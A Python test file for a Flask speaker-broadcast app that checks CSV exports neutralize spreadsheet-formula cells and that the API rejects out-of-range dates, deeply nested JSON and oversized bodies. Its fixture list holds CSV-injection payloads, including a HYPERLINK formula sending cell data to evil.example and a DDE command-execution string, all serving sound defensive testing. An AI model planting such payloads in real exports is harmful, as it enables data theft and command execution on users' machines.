"""Issue 10, the smaller findings: CSV export cells, out-of-range days and numbers in query
strings, deeply nested JSON, bodies over the size limit. Each answer is a clear 4xx in the
user's language (panel) or the API's JSON error shape, never a 500, and the server goes on.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from broadcaster.models import PlayKind, PlayLogEntry
from broadcaster.service import Service
from broadcaster.store import TokenKind
from tests.web.conftest import NOW, login

SPEAKER = "vehicle-01"
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\tleading tab",
    "\rleading CR",
    "＝1+1",  # full-width equals sign (Chinese input methods)
    '=cmd|"/c calc"!A0',
]


def _device(service: Service, speaker: str = SPEAKER) -> dict[str, str]:
    token = service.store.people.issue_token(TokenKind.DEVICE, speaker, NOW)[1]
    return {"Authorization": f"Bearer {token}"}


def _entry(i: int, **fields: Any) -> PlayLogEntry:
    started = NOW - timedelta(minutes=30 - i)
    values: dict[str, Any] = {
        "id": f"p-{i}",
        "speaker_id": SPEAKER,
        "clip": f"c{i:08d}",
        "message_id": None,
        "kind": PlayKind.LOOP,
        "planned_start": None,
        "started_at": started,
        "ended_at": started + timedelta(seconds=20),
        "completed": False,
        "reason": "",
    }
    return PlayLogEntry(**(values | fields))


# -- CSV export ----------------------------------------------------------------------------


def test_device_reported_text_cannot_become_a_spreadsheet_formula(
    app: Flask, service: Service
) -> None:
    """Every text a device reports (entry id, clip, message, reason) reaches the CSV as
    text: no cell starts a formula, and the csv module reads back every row and value.
    (Stored directly: whatever the device API lets through, the export must be safe.)"""
    entries = [
        _entry(i, id=f"{text[:60]}#{i}", clip=text[:90], message_id=text[:90], reason=text[:90])
        for i, text in enumerate(DANGEROUS)
    ]
    entries.append(_entry(99, reason='a "quoted",\nmulti-line reason'))
    assert len(service.store.devices.add_plays(entries, NOW).accepted) == len(entries)

    client = app.test_client()
    login(client, "admin")
    response = client.get(f"/reports/plays.csv?day={NOW.date().isoformat()}")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    header, body = rows[0], rows[1 : rows.index([])]  # the totals follow a blank row (issue 11)
    assert header[0] == "喇叭" and len(body) == len(entries)
    assert all(len(row) == len(header) for row in body)
    for row in body:
        for cell in row:
            assert not cell.lstrip(" ").startswith(
                ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
            ), row
    # The values are all there: a neutralized cell is the text behind one apostrophe.
    reasons = {row[header.index("提前停止的原因")] for row in body}
    for text in DANGEROUS:
        assert "'" + text[:90] in reasons
    assert 'a "quoted",\nmulti-line reason' in reasons
    # Times and plain ids are left as they were (only formula starts are touched).
    started = {row[header.index("开始时间")] for row in body}
    assert all(cell[:4].isdigit() for cell in started)


# -- days and numbers in query strings -------------------------------------------------------


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31", "1-1-1", "2025-02-30", "x" * 300])
def test_a_day_out_of_range_is_said_on_the_reports_page(login_as: Any, day: str) -> None:
    client: FlaskClient = login_as("admin")
    response = client.get(f"/reports?day={day}")
    page = response.get_data(as_text=True)
    assert response.status_code == 400, page[:2000]
    assert '<p class="error">' in page
    assert "请输入 2000-01-01 到 9998-12-31 之间的日期。" in page or "请输入日期" in page
    csv_answer = client.get(f"/reports/plays.csv?day={day}")
    assert csv_answer.status_code == 400
    assert csv_answer.mimetype == "text/html"
    assert 'id="error-message"' in csv_answer.get_data(as_text=True)


def test_the_edge_days_still_answer(login_as: Any) -> None:
    client: FlaskClient = login_as("chief-tunli")
    for day in ("2000-01-01", "9998-12-31"):
        assert client.get(f"/reports?day={day}").status_code == 200
        assert client.get(f"/reports/plays.csv?day={day}").status_code == 200
    client.get("/?lang=en")
    page = client.get("/reports?day=0001-01-01").get_data(as_text=True)
    assert "Enter a date from 2000-01-01 to 9998-12-31." in page


@pytest.mark.parametrize(
    "before", ["99999999999999999999", "9223372036854775808", "-1", "0", "1e3", "abc"]
)
def test_an_audit_page_number_out_of_range_is_said_on_the_page(login_as: Any, before: str) -> None:
    client: FlaskClient = login_as("admin")
    response = client.get(f"/audit?before={before}")
    page = response.get_data(as_text=True)
    assert response.status_code == 400, page[:2000]
    assert "“更早”必须是列表中的条目编号（#）。" in page
    assert "<table" in page  # the newest entries are still shown


def test_audit_paging_still_works(login_as: Any, service: Service) -> None:
    client: FlaskClient = login_as("admin")
    newest = service.store.journal.list_audit(limit=1)[0].seq
    response = client.get(f"/audit?before={newest}&action=login.success")
    assert response.status_code == 200
    assert client.get("/audit?before=9223372036854775807").status_code == 200


# -- deeply nested JSON ------------------------------------------------------------------------


def deep(levels: int) -> bytes:
    return b"[" * levels + b"]" * levels


def _json_endpoints(service: Service) -> list[tuple[str, str, dict[str, str]]]:
    """One endpoint of every JSON family: device, urgent (user), catalog (user)."""
    device = _device(service)
    user = {
        "Authorization": f"Bearer {service.store.people.issue_token(TokenKind.USER, 'admin', NOW)[1]}"
    }
    return [
        ("POST", f"/api/v1/speakers/{SPEAKER}/heartbeat", device),
        ("POST", f"/api/v1/speakers/{SPEAKER}/plays", device),
        ("POST", f"/api/v1/speakers/{SPEAKER}/track", device),
        ("POST", f"/api/v1/speakers/{SPEAKER}/acks", device),
        ("POST", "/api/v1/urgent", user),
        ("POST", "/api/v1/urgent/preview", user),
        ("POST", "/api/v1/messages", user),
        ("PATCH", "/api/v1/messages/m-no-such", user),
        ("POST", "/api/v1/programs", user),
        ("POST", "/api/v1/schedules", user),
    ]


@pytest.mark.parametrize(
    "body",
    [
        deep(100_000),
        b'{"state": "idle", "cache": ' + deep(5_000) + b"}",
        # Below the parser's own recursion limit, but too deep to store and show again.
        b'{"state": "idle", "now_playing": ' + b'{"a":' * 900 + b"1" + b"}" * 900 + b"}",
    ],
    ids=["100k arrays", "5k arrays in a field", "900 objects"],
)
def test_deeply_nested_json_is_a_422_naming_the_problem(
    app: Flask, service: Service, body: bytes
) -> None:
    client = app.test_client()
    for method, path, headers in _json_endpoints(service):
        response = client.open(
            path, method=method, data=body,
            headers={**headers, "Content-Type": "application/json"},
        )  # fmt: skip
        assert response.status_code == 422, (path, response.get_data(as_text=True)[:500])
        error = response.get_json()["error"]
        assert error["code"] == "invalid" and error["field"] == "body", (path, error)
        assert "nested" in error["message"], (path, error)
    status = service.store.devices.speaker_statuses()
    assert all(s.now_playing is None for s in status.values() if s.speaker_id == SPEAKER)
    # The server goes on.
    assert client.get("/healthz").status_code == 200
    ok = client.post(f"/api/v1/speakers/{SPEAKER}/heartbeat", json={"state": "idle"},
                     headers=_device(service))  # fmt: skip
    assert ok.status_code == 200


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    database=None,
)
@given(
    depth=st.integers(0, 3000),
    opener=st.sampled_from([b"[", b'{"a":', b'{"cache":{"b":[']),
    tail=st.sampled_from([b"", b" ", b"x", b"\xff\xfe", b"]" * 5, b"}" * 5]),
)
def test_any_nesting_is_answered_with_a_4xx_not_a_500(
    app: Flask, service: Service, depth: int, opener: bytes, tail: bytes
) -> None:
    closer = {b"[": b"]", b'{"a":': b"}", b'{"cache":{"b":[': b"]}}"}[opener]
    body = opener * depth + b"1" + closer * depth + tail
    response = app.test_client().post(
        f"/api/v1/speakers/{SPEAKER}/heartbeat", data=body,
        headers={**_device(service), "Content-Type": "application/json"},
    )  # fmt: skip
    assert response.status_code in (200, 422), (depth, response.status_code)
    if response.status_code == 422:
        assert response.get_json()["error"]["field"] == "body"


def test_ordinary_nesting_is_accepted(app: Flask, service: Service) -> None:
    body = {"state": "idle", "cache": {"a": {"b": {"c": [1, [2, [3]]]}}}}
    response = app.test_client().post(
        f"/api/v1/speakers/{SPEAKER}/heartbeat", data=json.dumps(body),
        headers={**_device(service), "Content-Type": "application/json"},
    )  # fmt: skip
    assert response.status_code == 200, response.get_data(as_text=True)


# -- bodies over the limit ---------------------------------------------------------------------


def test_a_json_body_over_the_limit_is_a_413_naming_the_limit(app: Flask, service: Service) -> None:
    client = app.test_client()
    big = b'{"state": "idle", "version": "' + b"x" * (2 * 2**20) + b'"}'
    response = client.post(
        f"/api/v1/speakers/{SPEAKER}/heartbeat", data=big,
        headers={**_device(service), "Content-Type": "application/json"},
    )  # fmt: skip
    assert response.status_code == 413
    error = response.get_json()["error"]
    assert error["code"] == "too_large" and error["field"] == "body"
    assert "1 MB" in error["message"], error


def test_an_upload_over_the_limit_is_a_413_in_the_users_language(
    app: Flask, service: Service
) -> None:
    # A smaller limit keeps the test fast (and the test client's body in memory).
    app.config["MAX_CONTENT_LENGTH"] = 2**18
    client = app.test_client()
    login(client, "chief-tunli")
    with client.session_transaction() as s:
        token = s["csrf"]

    def data() -> dict[str, object]:
        big = io.BytesIO(b"\0" * (2**18 + 10))
        return {"csrf_token": token, "title": "录音", "recording": (big, "big.wav")}

    response = client.post("/messages/new", data=data(), content_type="multipart/form-data")
    page = response.get_data(as_text=True)
    assert response.status_code == 413
    assert response.mimetype == "text/html"
    assert "文件太大" in page and "上限是 0.25 MB" in page, page[:3000]
    client.get("/?lang=en")
    page = client.post("/messages/new", data=data(), content_type="multipart/form-data").get_data(
        as_text=True
    )
    assert "at most 0.25 MB" in page, page[:3000]


def test_an_api_body_over_the_upload_limit_is_a_json_413(app: Flask, service: Service) -> None:
    app.config["MAX_CONTENT_LENGTH"] = 2**20
    user = {
        "Authorization": f"Bearer {service.store.people.issue_token(TokenKind.USER, 'admin', NOW)[1]}"
    }
    response = app.test_client().post(
        "/api/v1/messages", data=b"{" + b" " * (2**20 + 10) + b"}",
        headers={**user, "Content-Type": "application/json"},
    )  # fmt: skip
    assert response.status_code == 413
    error = response.get_json()["error"]
    assert error["code"] == "too_large" and error["field"] == "body"
    assert "1 MB" in error["message"]
